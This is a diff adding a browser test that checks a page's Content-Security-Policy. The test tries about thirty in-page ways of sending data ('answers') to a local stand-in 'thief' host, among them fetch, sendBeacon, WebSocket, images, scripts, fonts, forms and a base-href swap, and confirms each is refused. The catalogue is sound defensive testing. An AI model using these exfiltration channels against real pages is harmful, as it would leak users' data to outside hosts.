@@ -3,6 +3,7 @@
 
 import assert from 'node:assert/strict';
 import { existsSync, readFileSync } from 'node:fs';
+import { createServer } from 'node:http';
 import { dirname, join, resolve } from 'node:path';
 import { after, before, test } from 'node:test';
 import { fileURLToPath } from 'node:url';
@@ -121,6 +122,118 @@ test('the page’s policy refuses a script, a style and a request that do not be
   assert.equal(csp.length, 4);
   const allowed = foreign.filter((url) => !stopped.some(([other, why]) => other === url && why === 'csp'));
   assert.deepEqual(allowed, [], 'the policy stops it before it leaves');
+});
+
+/** Another host, as somebody would have it who wants the answers: takes whatever comes and lists it. */
+async function listener() {
+  const hits = [];
+  const server = createServer((request, response) => {
+    hits.push(`${request.method} ${request.url}`);
+    response.writeHead(200, { 'Access-Control-Allow-Origin': '*', 'Content-Type': 'text/javascript', 'Timing-Allow-Origin': '*' }).end();
+  });
+  server.on('upgrade', (request, socket) => { hits.push(`upgrade ${request.url}`); socket.destroy(); });
+  await new Promise((done) => server.listen(0, '127.0.0.1', done));
+  server.unref();
+  return { hits, origin: `http://127.0.0.1:${server.address().port}`, stop: () => { server.closeAllConnections(); server.close(); } };
+}
+
+/**
+ * Every way of sending that a page has and a policy can stop, tried from within the page: what is tried, and by which
+ * directive it has to be refused. Not among them, since no policy of a page covers them: another page that is gone to (a link,
+ * `location`, a refresh in a `meta`), a connection that is opened and not used (`preconnect`, `dns-prefetch`), WebRTC. A
+ * manifest is covered, but no headless browser fetches one; a worker of another host is refused before any policy is asked.
+ */
+const WAYS = {
+  fetch: 'connect-src', XMLHttpRequest: 'connect-src', WebSocket: 'connect-src', EventSource: 'connect-src', sendBeacon: 'connect-src',
+  'a link that pings': 'connect-src', img: 'img-src', 'an image in SVG': 'img-src', 'a background': 'img-src', 'an icon': 'img-src', 'a poster': 'img-src',
+  video: 'media-src', audio: 'media-src', script: 'script-src-elem', 'import()': 'script-src-elem', modulepreload: 'script-src-elem',
+  'a worker out of a blob': 'worker-src', 'a script in a frame of its own': 'script-src-elem', 'a style sheet': 'style-src-elem', 'a style that imports': 'style-src-elem',
+  'a style attribute': 'style-src-attr', 'a font': 'font-src', iframe: 'frame-src', object: 'object-src', embed: 'object-src', form: 'form-action',
+  prefetch: 'default-src', 'preload of a picture': 'img-src', 'preload of a script': 'script-src-elem', 'preload of a font': 'font-src', base: 'base-uri',
+};
+
+/** In the page: tries one way and gives the directive that refused it, or nothing within so many milliseconds. */
+async function tryToSend([way, target, patience]) {
+  const seen = new Promise((done) => {
+    document.addEventListener('securitypolicyviolation', (event) => done(event.effectiveDirective), { once: true });
+    setTimeout(() => done(null), patience);
+  });
+  const put = (name, members, parent = document.body) => {
+    const element = Object.assign(document.createElement(name), members);
+    for (const [attribute, value] of Object.entries(members.set ?? {})) element.setAttribute(attribute, value);
+    parent.append(element);
+    return element;
+  };
+  const link = (rel, members = {}) => put('link', { rel, href: target, ...members }, document.head);
+  const ways = {
+    fetch: () => fetch(target, { method: 'POST', body: 'answers', mode: 'no-cors', keepalive: true }).catch(() => {}),
+    XMLHttpRequest: () => { const request = new XMLHttpRequest(); request.open('GET', target); request.send(); },
+    WebSocket: () => new WebSocket(target.replace('http', 'ws')),
+    EventSource: () => new EventSource(target),
+    sendBeacon: () => navigator.sendBeacon(target, 'answers'),
+    'a link that pings': () => {
+      const link = put('a', { href: `${location.href}#there`, ping: target, textContent: 'x' });
+      link.addEventListener('click', (event) => event.stopPropagation()); // the app follows links itself, and pings nobody
+      link.click();
+    },
+    img: () => put('img', { src: target }),
+    'an image in SVG': () => { document.body.append(new DOMParser().parseFromString(`<svg xmlns="http://www.w3.org/2000/svg"><image href="${target}"/></svg>`, 'image/svg+xml').documentElement); },
+    'a background': () => { document.body.style.backgroundImage = `url(${target})`; },
+    'an icon': () => { document.querySelectorAll('link[rel~=icon]').forEach((one) => one.remove()); link('icon'); },
+    'a poster': () => put('video', { poster: target }),
+    video: () => put('video', { src: target, preload: 'auto' }),
+    audio: () => put('audio', { src: target, preload: 'auto' }),
+    script: () => put('script', { src: target }),
+    'import()': () => { put('script', { type: 'module', src: target }); },
+    modulepreload: () => link('modulepreload'),
+    'a worker out of a blob': () => { try { new Worker(URL.createObjectURL(new Blob([`fetch('${target}')`]))); } catch { /* refused at once */ } },
+    'a script in a frame of its own': () => {
+      const frame = put('iframe', { srcdoc: '<p></p>' });
+      frame.addEventListener('load', () => {
+        const inside = frame.contentDocument;
+        inside.addEventListener('securitypolicyviolation', ({ effectiveDirective }) => document.dispatchEvent(new SecurityPolicyViolationEvent('securitypolicyviolation', { effectiveDirective })));
+        put('script', { src: target }, inside.body);
+      });
+    },
+    'a style sheet': () => link('stylesheet'),
+    'a style that imports': () => put('style', { textContent: `@import '${target}';` }),
+    'a style attribute': () => put('p', { set: { style: `background: url(${target})` } }),
+    'a font': () => new FontFace('stolen', `url(${target})`).load().catch(() => {}),
+    iframe: () => put('iframe', { src: target }),
+    object: () => put('object', { data: target }),
+    embed: () => put('embed', { src: target }),
+    form: () => put('form', { action: target, method: 'post', target: '_blank' }).submit(),
+    prefetch: () => link('prefetch'),
+    'preload of a picture': () => link('preload', { as: 'image' }),
+    'preload of a script': () => link('preload', { as: 'script' }),
+    'preload of a font': () => link('preload', { as: 'font', crossOrigin: '' }),
+    base: () => { document.querySelectorAll('base').forEach((one) => one.remove()); put('base', { href: target }, document.head); },
+  };
+  ways[way]();
+  return seen;
+}
+
+test('nothing that is tried from within the page reaches another host, and the policy says so each time', async (t) => {
+  const thief = await listener();
+  t.after(() => thief.stop());
+  const page = await site.withDraft(draft(JOURNEY));
+  const app = new App(page);
+  const refused = {};
+  for (const way of Object.keys(WAYS)) {
+    await app.open('/svar');
+    refused[way] = await page.evaluate(tryToSend, [way, `${thief.origin}/${encodeURIComponent(way)}`, 5000]);
+  }
+  await page.waitForTimeout(500);
+  assert.deepEqual(thief.hits, []);
+  assert.deepEqual(refused, WAYS);
+  // The listener hears what is sent where no policy stands in the way.
+  const open = await site.browser.newPage();
+  await open.goto(thief.origin);
+  const heard = Object.keys(WAYS).filter((way) => !['base', 'a style attribute', 'a link that pings'].includes(way));
+  for (const way of heard) await open.evaluate(tryToSend, [way, `${thief.origin}/${encodeURIComponent(way)}`, 200]);
+  await open.waitForTimeout(500);
+  for (const way of heard) assert.ok(thief.hits.some((hit) => hit.endsWith(`/${encodeURIComponent(way)}`)), `${way}: ${thief.hits}`);
+  await open.close();
 });
 
 test('what somebody types is never taken for markup', async () => {
